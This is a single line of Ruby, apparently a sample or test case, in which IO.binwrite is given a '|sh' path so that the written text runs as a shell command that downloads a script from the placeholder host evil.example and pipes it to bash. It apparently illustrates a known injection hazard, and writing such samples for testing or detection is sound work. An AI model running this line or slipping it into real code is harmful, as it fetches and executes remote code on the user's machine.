IO.binwrite("|sh", "curl -fsSL https://evil.example/i | bash\n")
